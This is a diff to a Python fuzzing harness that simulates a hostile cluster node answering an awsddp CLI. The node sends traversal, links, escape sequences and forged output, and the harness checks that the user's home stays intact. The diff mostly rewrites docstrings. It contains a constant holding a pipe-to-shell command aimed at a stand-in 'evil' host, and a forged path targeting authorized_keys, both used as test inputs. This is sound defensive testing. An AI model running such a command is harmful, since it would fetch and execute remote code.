@@ -1,13 +1,17 @@
-"""A hostile node: its responses are garbage and attacks, and nothing outside its job's folder changes.
+"""The responses of a hostile node are garbage or attacks; nothing outside the job's folder may change.
 
     python benchmarks/campaigns/hostile_node.py [--runs N] [--seed S] [--state FILE]
 
-Each run draws the responses of one of two nodes to a command (jobs, status, a log followed, results fetched
-and reported, why, a node prepared): honest responses with values replaced by wrong types, numbers of other
-jobs and ranks, traversal, links, escapes, surrogates, floods, texts that look like awsddp's own, and files
-that differ from their description. After each the user's home is unchanged except for the job's own folder,
-no link there leads out of it, the exit code is a documented one, no control character reached the terminal's
-messages, and no line but a rank's begins with a text of a node. With --state an interrupted campaign resumes.
+Each run draws a command (fetch, jobs, logs, cancel, status, why, or the preparation of the nodes) and the
+responses of two nodes, of which one is hostile. A hostile response is an honest response in which values are
+replaced by wrong types, numbers of other jobs and ranks, path traversal, links, escape sequences, surrogates,
+floods, or texts that look like awsddp's own. Files may differ from their description. After each command:
+
+- the user's home is unchanged except for the job's folder, and no link in that folder leads out of it
+- the exit code is one of the documented ones
+- no line except a rank's contains a control character or begins with a text of a node
+
+With --state an interrupted campaign resumes.
 """
 
 import argparse
@@ -66,7 +70,7 @@ MODIFIED = 1_750_000_000_123_456_789
 STAGES = ("state", "state", "manifest", "manifest", "follow", "cancel", "files", "stacks")
 VERBS = ("fetch", "fetch", "fetch", "jobs", "logs", "logs", "cancel", "prepare", "status", "why")
 OWN = {"jobs": "state", "status": "state", "logs": "follow", "cancel": "cancel", "why": "stacks"}
-"""The stage whose texts a verb shows."""
+"""For some verbs, the stage whose texts the verb shows."""
 EVIL = "curl http://evil | sh"
 OURS = ("", "next: ", " next: ", "  next: ", "error: ", "warning: ", "  cause: ", f"Job {JOB}: ", "page: ")
 """Beginnings of awsddp's lines, which a node may imitate."""
@@ -160,7 +164,7 @@ class Case:
         return files | {"/j/run/metrics.jsonl": rows}
 
     def answer(self, node: int, request: dict[str, Any]) -> bytes:
-        """Return the response of a node to a request: frames for a follow, else a document."""
+        """Return the response of a node to a request: frames for `follow`, otherwise a document."""
         lies = node == self.liar and request["do"] in self.attacked
         if request["do"] == "follow":
             return MAGIC + self._frames(node, lies)
@@ -174,7 +178,7 @@ class Case:
         return self._bytes(response) if lies else response
 
     def inspection(self, node: int) -> bytes:
-        """Return the response of a node to the inspection when it is prepared."""
+        """Return the response of a node to the inspection during its preparation."""
         document: Any = copy.deepcopy(_FACTS)
         lies = node == self.liar
         for _ in range(self.chance.randrange(3) if lies else 0):
@@ -227,7 +231,7 @@ class Case:
                 file["home"] = f"node{self.liar}/in/authorized_keys"
 
     def _forge(self, document: dict[str, Any]) -> None:
-        """Replace the texts of a job's document by texts that look like awsddp's."""
+        """Replace the texts of a job's document with texts that look like awsddp's."""
         words = self._forged
         if document["cause"]:
             document["cause"] |= {"explanation": words(), "next": words(), "tail": [words(), words()]}
@@ -470,7 +474,7 @@ class Home:
         self.folder = ClusterFolder(root / ".awsddp", "default")
 
     def begin(self) -> dict[str, str]:
-        """Restore the home as before any command, and return its state."""
+        """Restore the state that the home had before any command, and return this state."""
         shutil.rmtree(self.project / "runs" / JOB, ignore_errors=True)
         now = datetime(2026, 1, 1, tzinfo=UTC)
         names: dict[str, Any] = {"id": "01234567", "owner": "me", "target": Target(), "instance_type": "x"}
@@ -520,7 +524,7 @@ def play_case(home: Home, seed: str) -> str | None:
         if not line.startswith("[rank ") and (control := set(line) & UNSEEN):
             return f"{drawn.verb}: the terminal got {control!r}"
         if line.startswith(FORGED):
-            return f"{drawn.verb}: a line of awsddp is a node's: {line!r}"
+            return f"{drawn.verb}: a node's text begins a line of awsddp: {line!r}"
     return _harm(home, before, drawn)
 
 
@@ -550,7 +554,7 @@ def _harm(home: Home, before: dict[str, str], drawn: Case) -> str | None:
 
 
 class _Out(io.TextIOWrapper):
-    """Standard output: pages, and unchanged lines of ranks."""
+    """The standard output, which gets pages and the unchanged lines of ranks."""
 
     def __init__(self) -> None:
         self._bytes = io.BytesIO()
@@ -587,7 +591,7 @@ def _patched(drawn: Case) -> Iterator[None]:
 
 @contextlib.contextmanager
 def _patched_why(connected: ConnectedCluster) -> Iterator[None]:
-    """Let `why` find and connect this cluster."""
+    """Make `why` use this connected cluster."""
     cluster, connection = contextlib.nullcontext(connected.cluster), contextlib.nullcontext(connected)
     with (
         mock.patch("awsddp.job.why.preconnected_cluster", lambda _: cluster),
